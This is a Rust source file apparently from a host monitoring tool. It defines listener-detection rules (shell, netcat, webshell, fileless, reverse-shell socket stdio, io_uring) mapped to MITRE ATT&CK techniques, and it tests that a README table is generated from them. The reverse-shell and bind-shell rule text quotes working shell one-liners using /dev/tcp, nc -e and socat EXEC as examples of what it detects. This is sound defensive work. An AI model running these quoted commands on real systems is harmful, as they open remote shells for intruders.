//! The rules, each once: name, what it fires on, and each form of finding it makes (severity,
//! technique). Findings are made through these (`Findings::add`), `--no-detection` takes their
//! names, and the README's table is generated from them (`readme_table`, checked by a test), the
//! lists they know (shells, interpreters, netcats, ...) filled in from the code's own.
use std::fmt::Write as _;

use super::{
    BACKDOOR_PORTS, CLOSE_WAIT_RISES, Severity,
    program::{INTERPRETERS, KERNEL_THREADS, NETCATS, SHELLS, WEB_SERVERS},
};

/// A rule and the findings it makes.
pub struct Rule {
    pub name: &'static str,
    /// What it fires on, as the README says it; `{shells}`, `{interpreters}`, `{inline_flags}`,
    /// `{netcats}`, `{web_servers}`, `{kernel_threads}`, `{backdoor_ports}` and
    /// `{close_wait_rises}` stand for the code's lists.
    pub fires_on: &'static str,
    pub forms: &'static [(Severity, Technique)],
}

/// A finding's MITRE ATT&CK technique.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Technique {
    Id(&'static str),
    /// The interpreter's own (`INTERPRETERS`).
    Interpreter,
    /// A health finding, not an attack technique.
    None,
}

impl Rule {
    /// Whether this rule makes a finding of `severity` and `technique`.
    pub fn makes(&self, severity: Severity, technique: Option<&str>) -> bool {
        self.forms.iter().any(|&(s, t)| {
            s == severity
                && match t {
                    Technique::Id(id) => technique == Some(id),
                    Technique::Interpreter => {
                        INTERPRETERS.iter().any(|i| Some(i.technique) == technique)
                    }
                    Technique::None => technique.is_none(),
                }
        })
    }
}

pub const SHELL_LISTENER: Rule = Rule {
    name: "shell-listener",
    fires_on: "a shell ({shells}) listening or accepting",
    forms: &[(Severity::High, Technique::Id("T1059.004"))],
};

pub const INLINE_INTERPRETER: Rule = Rule {
    name: "inline-interpreter-listener",
    fires_on: "{interpreters} listening or accepting from an inline program ({inline_flags}) given among its own options, not a script or a module (`python3 -m http.server` and `python3 app.py -c conf` stay quiet)",
    forms: &[(Severity::High, Technique::Interpreter)],
};

pub const NETCAT_LISTENER: Rule = Rule {
    name: "netcat-listener",
    fires_on: "{netcats} listening; **critical** when it runs a command for its peer (`-e`, `-c`, `--exec`, `--sh-exec`, `EXEC:`, `SYSTEM:`)",
    forms: &[
        (Severity::High, Technique::Id("T1571")),
        (Severity::Critical, Technique::Id("T1059")),
    ],
};

pub const FILELESS: Rule = Rule {
    name: "fileless-listener",
    fires_on: "a listener whose executable is a memfd (in memory only) or deleted (no links left at the event: `exe_deleted`)",
    forms: &[
        (Severity::Critical, Technique::Id("T1620")),
        (Severity::Critical, Technique::Id("T1070.004")),
    ],
};

pub const KERNEL_THREAD_NAME: Rule = Rule {
    name: "kernel-thread-name",
    fires_on: "a user process (it has an executable) named like a kernel thread: {kernel_threads}",
    forms: &[(Severity::High, Technique::Id("T1036.004"))],
};

pub const BACKDOOR_PORT: Rule = Rule {
    name: "backdoor-port",
    fires_on: "a listener on a port backdoors and C2 commonly use: {backdoor_ports} (`--backdoor-port` or `[detections] backdoor_ports` sets the list)",
    forms: &[(Severity::Medium, Technique::Id("T1571"))],
};

pub const PRIVILEGED_PORT: Rule = Rule {
    name: "privileged-port",
    fires_on: "a non-root user (the real uid) listening or binding UDP below port 1024; the reason says how it could: `through CAP_NET_BIND_SERVICE` (its effective capabilities, read from `/proc/PID/status` as the record is made), else through its network namespace's `net.ipv4.ip_unprivileged_port_start` (container runtimes lower it), or that it is unknown because the process was already gone",
    forms: &[(Severity::Medium, Technique::Id("T1548"))],
};

pub const REUSEPORT_HIJACK: Rule = Rule {
    name: "reuseport-hijack",
    fires_on: "a TCP listener on an address and port that another executable, or another user, already listens on: only SO_REUSEPORT lets a second socket listen there, and the kernel then hands it a share of the connections. Workers of one server (same executable, same user) stay quiet. Not judged for UDP, where SO_REUSEADDR also shares a port (mDNS, DHCP clients): a record cannot tell those from a hijack, so UDP sharing is only named in `shared_with`",
    forms: &[(Severity::High, Technique::Id("T1557"))],
};

pub const WEBSHELL: Rule = Rule {
    name: "webshell",
    fires_on: "a shell, or an interpreter running an inline program, listening, accepting or started on a socket, with a web server among its ancestors ({web_servers}; a version suffix such as `php-fpm8.2` counts), named with its pid in the reason. The ancestors come from the process table, so they are judged whether or not `--ancestry` writes them. A service the web server runs (`python3 -m http.server` under nginx) stays quiet",
    forms: &[(Severity::Critical, Technique::Id("T1505.003"))],
};

pub const SOCKET_STDIO: Rule = Rule {
    name: "socket-stdio",
    fires_on: "a program exec'd with an IPv4/IPv6 socket as stdin, stdout or stderr: what a reverse shell (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, python's `os.dup2(s.fileno(), 0..2)` then `subprocess.call([\"/bin/sh\",\"-i\"])`) and a bind shell (`nc.traditional -l -e /bin/sh`, `socat TCP-LISTEN:P EXEC:/bin/sh,nofork`) start with. The exec hook reads descriptors 0-2 of the new image (after close-on-exec), so no syscall more is traced. It makes an `exec` record; the first exec on a socket is judged, and later ones on the same socket (what the shell runs) are reported with `session` and judged again only if worse. Critical for a shell, high for an interpreter, medium otherwise (an inetd-style service, systemd `Accept=yes` with `StandardInput=socket`). Unix sockets (journald's stdout, socketpairs) and pipes are not IP sockets and stay quiet; so does a shell behind a relay that gives it a socketpair, pipes or a pty (socat's default `EXEC:`, `mkfifo` pipelines, python's `pty.spawn`): there the relay's `netcat-listener` finding, or nothing for an outbound relay, is what remains",
    forms: &[
        (Severity::Critical, Technique::Id("T1059.004")),
        (Severity::High, Technique::Interpreter),
        (Severity::Medium, Technique::Id("T1059")),
    ],
};

pub const ACCEPT_QUEUE_OVERFLOW: Rule = Rule {
    name: "accept-queue-overflow",
    fires_on: "with `watch --stats`: a TCP listener dropped connection attempts since its last stats record (its `drops`, the kernel's sk_drops, rose) because its accept queue was full: a program that does not accept(2) as fast as connections come, or a SYN or connection flood. On every interval with new drops",
    forms: &[(Severity::Medium, Technique::Id("T1499.002"))],
};

pub const CLOSE_WAIT_GROWING: Rule = Rule {
    name: "close-wait-growing",
    fires_on: "with `watch --stats`: a TCP listener's connections in CLOSE_WAIT (peer closed, program did not) rose at {close_wait_rises} stats records without a fall in between (equal counts do not break the run): a descriptor leak, the quiet way a service runs out of files. Once per run; a fall re-arms it",
    forms: &[(Severity::Medium, Technique::None)],
};

pub const IO_URING_LISTENER: Rule = Rule {
    name: "io-uring-listener",
    fires_on: "a listen, UDP bind or accept made through io_uring (`via: io_uring`), which monitors hooking syscalls do not see, by an executable not on the allowlist (`--uring-allow EXE`, repeatable, or `[detections] uring_allow`: a path names one executable, a file name any path). The allowlist is empty by default: on a host where nothing serves through io_uring, the first one is news",
    forms: &[(Severity::Medium, Technique::Id("T1562.006"))],
};

/// Every rule, in the README's order.
pub const RULES: [&Rule; 13] = [
    &SHELL_LISTENER,
    &INLINE_INTERPRETER,
    &NETCAT_LISTENER,
    &FILELESS,
    &KERNEL_THREAD_NAME,
    &BACKDOOR_PORT,
    &PRIVILEGED_PORT,
    &REUSEPORT_HIJACK,
    &WEBSHELL,
    &SOCKET_STDIO,
    &ACCEPT_QUEUE_OVERFLOW,
    &CLOSE_WAIT_GROWING,
    &IO_URING_LISTENER,
];

/// "a, b or c".
fn either(items: &[String]) -> String {
    match items {
        [] => String::new(),
        [one] => one.clone(),
        [rest @ .., last] => format!("{} or {last}", rest.join(", ")),
    }
}

fn quoted(items: impl IntoIterator<Item = impl AsRef<str>>) -> Vec<String> {
    items
        .into_iter()
        .map(|i| format!("`{}`", i.as_ref()))
        .collect()
}

/// What a rule fires on, its lists filled in.
fn fires_on(rule: &Rule) -> String {
    let mut flags: Vec<&str> = Vec::new();
    for i in &INTERPRETERS {
        for f in i.inline {
            if !flags.contains(f) {
                flags.push(f);
            }
        }
    }
    let interpreters: Vec<String> = INTERPRETERS.iter().map(|i| i.family.to_owned()).collect();
    let ports: Vec<String> = BACKDOOR_PORTS.iter().map(u16::to_string).collect();
    rule.fires_on
        .replace("{shells}", &SHELLS.join(", "))
        .replace("{interpreters}", &either(&interpreters))
        .replace("{inline_flags}", &quoted(flags).join(", "))
        .replace("{netcats}", &either(&quoted(NETCATS)))
        .replace("{web_servers}", &WEB_SERVERS.join(", "))
        .replace("{kernel_threads}", &KERNEL_THREADS.join(", "))
        .replace("{backdoor_ports}", &ports.join(", "))
        .replace("{close_wait_rises}", &CLOSE_WAIT_RISES.to_string())
}

/// The technique column: each form's, once.
fn techniques(rule: &Rule) -> String {
    let mut out: Vec<String> = Vec::new();
    for &(_, t) in rule.forms {
        let text = match t {
            Technique::Id(id) => id.to_owned(),
            Technique::Interpreter => {
                let mut by: Vec<(&str, Vec<&str>)> = Vec::new();
                for i in &INTERPRETERS {
                    match by.iter_mut().find(|(t, _)| *t == i.technique) {
                        Some((_, families)) => families.push(i.family),
                        None => by.push((i.technique, vec![i.family])),
                    }
                }
                let parts: Vec<String> = by
                    .iter()
                    .map(|(t, f)| format!("{t} ({})", f.join(", ")))
                    .collect();
                format!("the interpreter's: {}", parts.join(", "))
            }
            Technique::None => {
                "none: a health finding, not an attack technique (no `technique` member)".into()
            }
        };
        if !out.contains(&text) {
            out.push(text);
        }
    }
    out.join(" / ")
}

/// The README's table of rules.
pub fn readme_table() -> String {
    let mut t = String::from("| name | fires on | severity | technique |\n|---|---|---|---|\n");
    for rule in RULES {
        let mut severities: Vec<&str> = Vec::new();
        for (s, _) in rule.forms {
            let name = s.name();
            if !severities.contains(&name) {
                severities.push(name);
            }
        }
        let _ = writeln!(
            t,
            "| `{}` | {} | {} | {} |",
            rule.name,
            fires_on(rule),
            severities.join(" / "),
            techniques(rule)
        );
    }
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    const README: &str = include_str!("../../../../README.md");
    const README_PATH: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../README.md");
    const START: &str = "-->\n";
    const END: &str = "<!-- /rules -->";

    /// The README's detections table is this table: `PORTWATCH_BLESS=1` rewrites it.
    #[test]
    fn the_readme_table_is_generated_from_the_rules() {
        let open = README
            .find("<!-- rules:")
            .expect("the README's rules marker");
        let from = open + README[open..].find(START).unwrap() + START.len();
        let to = README.find(END).expect("the README's end-of-rules marker");
        let want = readme_table();
        if std::env::var_os("PORTWATCH_BLESS").is_some() {
            let text = format!("{}{want}{}", &README[..from], &README[to..]);
            std::fs::write(README_PATH, text).unwrap();
            return;
        }
        assert_eq!(
            &README[from..to],
            want,
            "the README's detections table differs from judge/rules/table.rs"
        );
    }

    #[test]
    fn names_are_unique_and_every_form_is_distinct() {
        for (i, r) in RULES.iter().enumerate() {
            assert!(
                RULES[..i].iter().all(|o| o.name != r.name),
                "{} twice",
                r.name
            );
            assert!(!r.forms.is_empty(), "{} makes no finding", r.name);
        }
    }
}
